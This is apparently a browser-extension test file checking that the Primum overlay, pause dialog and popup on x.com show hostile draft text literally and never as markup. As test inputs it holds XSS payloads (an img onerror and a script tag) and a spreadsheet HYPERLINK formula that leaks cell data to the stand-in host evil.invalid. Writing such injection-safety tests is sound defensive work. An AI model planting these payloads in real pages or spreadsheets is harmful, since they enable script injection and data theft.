// Hostile text is shown as text everywhere Primum shows post text: the card and the pause dialog
// on x.com, the popup's Check text and Check this page. The draft carries an <img onerror>, a
// <script> and a spreadsheet formula; custom terms (the user's own, as the options page saves
// them) flag exactly those strings and carry an HTML message, so the hostile strings are what the
// surfaces quote. No element may be created from them and `window.__pwned` stays unset.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { browserForFile } from './lib/browser.mjs';
import { serveSite } from './lib/fixtures.mjs';

const IMG = '<img src=x onerror=window.__pwned=1>';
const SCRIPT = '<script>window.__pwned=2</script>';
const FORMULA = '=HYPERLINK("https://evil.invalid/?leak="&A1,"open")';
const HOSTILE = `Shift notes ${IMG} then ${SCRIPT} and ${FORMULA} end`;
const MESSAGE = 'Flagged <b>bold</b> <img src=y onerror=window.__pwned=3>';
const TERMS = [
  { pattern: '<img[^>]*>', category: 'boundaries', severity: 'critical', message: MESSAGE },
  { pattern: '<script>[^<]*</script>', category: 'boundaries', severity: 'critical', message: MESSAGE },
  { pattern: '=HYPERLINK\\([^)]*\\)', category: 'boundaries', severity: 'critical', message: MESSAGE },
];
// Elements a parsed hostile string would have created (the editors and Primum make none of these).
const PARSED = 'img, script, b, iframe, object';

const browser = browserForFile({
  setup: async ({ worker, context, extensionId }) => {
    await worker.evaluate((customTerms) => chrome.storage.sync.set({ settings: { customTerms } }), TERMS);
    // The worker applies settings as they change: wait until its checker flags the hostile strings.
    const page = await context.newPage();
    await page.goto(`chrome-extension://${extensionId}/popup/popup.html`);
    await page.waitForFunction(async (text) => {
      const reply = await chrome.runtime.sendMessage({ type: 'check', text });
      return reply.report?.findings.filter((f) => f.rule === 'boundaries/custom-term').length === 3;
    }, HOSTILE);
    await page.close();
  },
});

/** Elements matching PARSED in the document and in every open shadow root (the page's own are
 * compared with a snapshot taken before), and `__pwned`. */
function injected(page) {
  return page.evaluate((selector) => {
    const roots = [document, ...[...document.querySelectorAll('*')].filter((e) => e.shadowRoot).map((e) => e.shadowRoot)];
    const found = roots.flatMap((r) => [...r.querySelectorAll(selector)].map((e) => e.outerHTML));
    return { found, pwned: window.__pwned ?? null };
  }, PARSED);
}

test('x.com: the card and the pause dialog show hostile text as text', async () => {
  const page = await browser.context.newPage();
  const requested = [];
  page.on('request', (r) => requested.push(new URL(r.url()).pathname));
  await page.goto(await serveSite(browser.context, 'x'));
  const clean = await injected(page);
  await page.locator('[data-testid="tweetTextarea_0"]').click();
  await page.keyboard.insertText(HOSTILE);
  await page.locator('primum-overlay[data-verdict="stop"]').waitFor({ state: 'attached' });
  assert.equal(await page.evaluate(() => window.__editorText()), HOSTILE);

  await page.locator('primum-overlay .badge').click();
  const card = page.locator('primum-overlay .card');
  await card.waitFor({ state: 'visible' });
  const messages = await card.locator('.msg').allTextContents();
  assert.equal(messages.length, 3);
  for (const m of messages) assert.equal(m, MESSAGE, 'the message is its literal text');
  assert.deepEqual(await injected(page), clean);
  await page.keyboard.press('Escape');

  await page.locator('[data-testid="tweetButtonInline"]').click();
  const dialog = page.locator('primum-dialog');
  await dialog.waitFor({ state: 'attached' });
  const quotes = await dialog.locator('.quote').allTextContents();
  assert.deepEqual(quotes, [`“${IMG}”`, `“${SCRIPT}”`, `“${FORMULA}”`]);
  assert.deepEqual(await injected(page), clean);
  await dialog.locator('[data-action="edit"]').click();
  assert.equal(await page.evaluate(() => window.__editorText()), HOSTILE, 'Edit loses nothing');
  // An <img src=x> that had been created would have requested /x.
  assert.ok(!requested.includes('/x') && !requested.includes('/y'), `requests: ${requested}`);
  await page.close();
});

test('popup: Check text and Check this page show hostile text as text', async () => {
  const timeline = await browser.context.newPage();
  await serveSite(browser.context, 'x', { '/primumtester': 'x-profile' });
  await timeline.goto('https://x.com/primumtester');
  await timeline.locator('article[data-testid="tweet"]').first().waitFor();
  // The site shows a post with the hostile text, as text, as X does.
  await timeline.evaluate((text) => {
    const article = document.querySelector('article[data-testid="tweet"]').cloneNode(true);
    article.querySelector('[data-testid="tweetText"]').textContent = text;
    document.getElementById('timeline').prepend(article);
  }, HOSTILE);
  const timelineClean = await injected(timeline);
  await timeline.bringToFront();
  const tabId = await browser.worker.evaluate(async () => (await chrome.tabs.query({ active: true, lastFocusedWindow: true }))[0]?.id);

  const popup = await browser.context.newPage();
  await popup.goto(`chrome-extension://${browser.extensionId}/popup/popup.html?tab=${tabId}`);
  const popupClean = await injected(popup);
  assert.equal(popupClean.pwned, null);
  await popup.locator('#draft').fill(HOSTILE);
  await popup.locator('#check').click();
  await popup.locator('#findings li').first().waitFor();
  const marks = await popup.locator('#findings mark').allTextContents();
  for (const s of [IMG, SCRIPT, FORMULA]) assert.ok(marks.includes(s), `${s} is marked as text (marks: ${marks})`);
  assert.deepEqual(await injected(popup), popupClean);

  await popup.locator('#audit').click();
  const section = popup.locator('#audit-results section[data-category="boundaries"]');
  await section.waitFor();
  const auditMarks = await section.locator('mark').allTextContents();
  for (const s of [IMG, SCRIPT, FORMULA]) assert.ok(auditMarks.includes(s), `${s} is marked in the page audit (marks: ${auditMarks})`);
  assert.match(await section.locator('.guidance').first().textContent(), /Flagged <b>bold<\/b> <img/);
  assert.deepEqual(await injected(popup), popupClean);
  assert.deepEqual(await injected(timeline), timelineClean);
});
